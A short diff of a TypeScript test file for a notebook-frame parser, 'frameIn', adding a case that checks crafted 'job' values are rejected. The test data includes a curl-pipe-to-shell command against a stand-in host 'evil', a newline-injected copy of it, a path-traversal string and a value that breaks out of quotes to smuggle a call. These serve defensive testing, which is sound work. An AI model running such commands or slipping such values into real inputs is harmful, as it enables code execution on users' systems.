@@ -55,6 +55,7 @@ describe("a frame from a notebook", () => {
   it("never chooses what a reader is told to run", () => {
     expect(frameIn(crafted(["attach"], "!curl evil | sh"))?.attach).toBe("%burst_attach 20261121-101828-5cj77ijt");
     expect(frameIn(crafted(["session"], "../../x"))).toBeNull();
+    for (const job of ["0\n!curl evil | sh", '0").x("', ""]) expect(frameIn(crafted(["job"], job))).toBeNull();
   });
 
   it.each([null, undefined, 1, "frame", []])("is not %s", (value) => {
